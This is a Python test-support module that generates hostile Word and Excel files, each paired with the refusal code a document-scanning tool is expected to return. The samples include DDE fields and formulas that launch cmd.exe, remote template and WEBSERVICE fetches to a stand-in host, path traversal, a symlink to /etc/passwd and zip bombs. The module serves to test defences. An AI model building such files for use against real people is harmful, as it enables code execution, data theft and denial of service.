"""Hostile Office files."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from assay.files.inspection.values import RefusalCode
from tests.support import sample_files as good
from tests.support.hostile_files import PROGRAM, Hostile, png_of

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
_MAIN_LINKS = "word/_rels/document.xml.rels"


def _docx(**parts: bytes) -> bytes:
    """A document with parts added or replaced; `__` in a name is `/`."""
    return good.zipped({**good.docx_parts(), **parts})


def _with_part(name: str, data: bytes) -> bytes:
    return good.zipped({**good.docx_parts(), name: data})


def _linking(kind: str, target: str, *, part: str = "", data: bytes = b"") -> bytes:
    parts = good.docx_parts()
    parts[_MAIN_LINKS] = good.links(("rId1", "image", "media/image1.jpeg"), ("rId9", kind, target))
    if part:
        parts[part] = data
    return good.zipped(parts)


def _typed(part: str, content_type: str) -> bytes:
    parts = good.docx_parts()
    types = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode()
    )
    return good.zipped({**parts, "[Content_Types].xml": types})


def _main(data: bytes) -> bytes:
    return good.zipped({**good.docx_parts(), "word/document.xml": data})


def _field(*codes: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return good.zipped(good.docx_parts(f"<w:p>{begin}{runs}</w:p>"))


def _formula(text: str) -> bytes:
    return good.zipped(good.xlsx_parts(f"<f>{text}</f>"))


def _symlink() -> bytes:
    out = io.BytesIO(good.docx())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("word/link.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _twice() -> bytes:
    out = io.BytesIO(good.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", b"<x/>")
    return out.getvalue()


def _locked_member() -> bytes:
    data = bytearray(good.docx())
    place = data.index(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def _lying_size() -> bytes:
    """A member that says it is 100 bytes and unpacks to 200 MB."""
    parts = good.docx_parts()
    parts["word/document.xml"] = bytes(200_000_000)
    data = bytearray(good.zipped(parts))
    true_size = struct.pack("<I", 200_000_000)
    return bytes(data.replace(true_size, struct.pack("<I", 100)))


def _overlapping() -> bytes:
    """Many names for the same packed bytes."""
    name, plain = b"00", bytes(1_000_000)
    packed = zlib.compress(plain, 9)[2:-4]
    crc = zlib.crc32(plain)
    sizes = struct.pack("<III", crc, len(packed), len(plain))
    local = (
        b"PK\3\4" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", len(name), 0) + name + packed
    )
    directory = b""
    for number in range(90):
        directory += b"PK\1\2" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
        directory += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + b"%02d" % number
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 90, 90, len(directory), len(local), 0)
    return local + directory + end


def _encrypted_package() -> bytes:
    return _OLE + "EncryptedPackage".encode("utf-16-le") + bytes(600)


def _documents() -> list[tuple[str, Callable[[], bytes], RefusalCode | None]]:
    code = RefusalCode
    doctype = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>'
    outside = b'<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://x.example/d.dtd"><d/>'
    deep = b"<a>" * 5_000 + b"</a>" * 5_000
    vba = "application/vnd.ms-office.vbaProject"
    macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return [
        ("macro part", lambda: _with_part("word/vbaProject.bin", _OLE), code.MACROS),
        ("macro content type", lambda: _typed("word/x.bin", vba), code.MACROS),
        ("docm renamed", lambda: _typed("word/document.xml", macro_main), code.MACROS),
        ("macro relationship", lambda: _linking("vbaProject", "x.bin", part="word/x.bin", data=_OLE), code.MACROS),
        ("document type with entity", lambda: _main(doctype), code.DOCUMENT_TYPE_DECLARATION),
        ("document type from elsewhere", lambda: _main(outside), code.DOCUMENT_TYPE_DECLARATION),
        ("xml 5,000 deep", lambda: _main(deep), code.TOO_COMPLEX),
        ("xml in utf-16", lambda: _main("<a/>".encode("utf-16")), code.UNKNOWN_CONTENT),
        ("xml cut off", lambda: _main(good.docx_parts()["word/document.xml"][:-9]), code.UNREADABLE),
        ("path upwards", lambda: _with_part("word/../../x.xml", b"<a/>"), code.UNSAFE_PATH),
        ("absolute path", lambda: _with_part("/etc/x.xml", b"<a/>"), code.UNSAFE_PATH),
        ("backslash path", lambda: _with_part("word\\x.xml", b"<a/>"), code.UNSAFE_PATH),
        ("drive path", lambda: _with_part("C:/x.xml", b"<a/>"), code.UNSAFE_PATH),
        ("symbolic link", _symlink, code.UNSAFE_PATH),
        ("name twice", _twice, code.UNSAFE_PATH),
        ("nested zip", lambda: _linking("image", "x.png", part="word/x.png", data=good.docx()), code.EMBEDDED_FILE),
        ("nested zip left over", lambda: _with_part("word/x.zip", good.docx()), code.EMBEDDED_FILE),
        ("program as picture", lambda: _linking("image", "x.png", part="word/x.png", data=PROGRAM), code.INFECTED),
        ("embedded package", lambda: _linking("package", "x.xlsx", part="word/x.xlsx"), code.EMBEDDED_FILE),
        ("ole object", lambda: _linking("oleObject", "x.bin", part="word/x.bin", data=_OLE), code.EMBEDDED_OBJECT),
        ("ole left over", lambda: _with_part("word/embeddings/x.bin", _OLE), code.EMBEDDED_OBJECT),
        ("ole object elsewhere", lambda: _linking("oleObject", "!http://x.example/a"), code.EMBEDDED_OBJECT),
        ("template elsewhere", lambda: _linking("attachedTemplate", "!http://x.example/a.dotm"), code.EXTERNAL_LINK),
        ("template on a share", lambda: _linking("attachedTemplate", "!file://x.example/a.dotm"), code.EXTERNAL_LINK),
        ("picture elsewhere", lambda: _linking("image", "!http://x.example/a.png"), code.EXTERNAL_LINK),
        ("script hyperlink", lambda: _linking("hyperlink", "!javascript:alert(1)"), code.EXTERNAL_LINK),
        ("share hyperlink", lambda: _linking("hyperlink", "!\\\\x.example\\a"), code.EXTERNAL_LINK),
        ("html brought in", lambda: _linking("aFChunk", "x.html", part="word/x.html"), code.EMBEDDED_FILE),
        ("active control", lambda: _linking("control", "x.xml", part="word/x.xml", data=b"<a/>"), code.ACTIVE_CONTENT),
        ("web extension", lambda: _linking("webextension", "x.xml", part="word/x.xml"), code.ACTIVE_CONTENT),
        ("missing part", lambda: _linking("styles", "styles.xml"), code.UNREADABLE),
        ("link upwards", lambda: _linking("image", "../../../x.png"), code.UNSAFE_PATH),
        ("unknown part", lambda: _linking("image", "x.bin", part="word/x.bin", data=b"????"), code.UNKNOWN_CONTENT),
        ("dde field", lambda: _field(" DDEAUTO c:\\\\cmd.exe "), code.ACTIVE_CONTENT),
        ("dde field in pieces", lambda: _field(" DD", "EAU", "TO cmd "), code.ACTIVE_CONTENT),
        ("field that fetches", lambda: _field(' INCLUDEPICTURE "http://x.example/a" '), code.EXTERNAL_LINK),
        ("locked member", _locked_member, code.ENCRYPTED),
        ("locked document", _encrypted_package, code.ENCRYPTED),
        ("old document", lambda: _OLE, code.TYPE_MISMATCH),
        ("zip bomb", lambda: _main(bytes(200_000_000)), code.DECOMPRESSION_BOMB),
        ("zip bomb that lies", _lying_size, code.UNREADABLE),
        ("zip of overlapping members", _overlapping, code.DECOMPRESSION_BOMB),
        ("2,100 members", lambda: good.zipped({f"a{n}.xml": b"" for n in range(2100)}), code.TOO_COMPLEX),
        ("something behind", lambda: good.docx() + b"<script>", code.POLYGLOT),
        ("cut off", lambda: good.docx()[:-500], code.UNREADABLE),
        (
            "picture of 30,000 x 30,000",
            lambda: _with_part("word/media/image1.jpeg", png_of(30_000, 30_000)),
            code.TOO_MANY_PIXELS,
        ),
    ]


def _sheets() -> list[tuple[str, Callable[[], bytes], RefusalCode | None]]:
    code = RefusalCode
    parts = good.xlsx_parts()
    workbook_links = good.links(("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId2", "externalLink", "x.xml"))
    macro = "application/vnd.ms-excel.macrosheet+xml"
    types = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/xl/x.xml" ContentType="{macro}"/></Types>'.encode()
    )
    return [
        (
            "other workbook",
            lambda: good.zipped({**parts, "xl/_rels/workbook.xml.rels": workbook_links}),
            code.EXTERNAL_LINK,
        ),
        ("macro sheet", lambda: good.zipped({**parts, "[Content_Types].xml": types}), code.MACROS),
        ("formula that fetches", lambda: _formula('WEBSERVICE("http://x.example/")'), code.EXTERNAL_LINK),
        ("formula that runs", lambda: _formula("cmd|'/C calc'!A0"), code.ACTIVE_CONTENT),
        ("formula in references", lambda: _formula("&#87;EBSERVICE(A1)"), code.EXTERNAL_LINK),
    ]


def corpus() -> list[Hostile]:
    """All classes of hostile Office files."""
    documents = [Hostile(f"docx: {label}", "verslag.docx", build, want) for label, build, want in _documents()]
    return documents + [Hostile(f"xlsx: {label}", "cijfers.xlsx", build, want) for label, build, want in _sheets()]
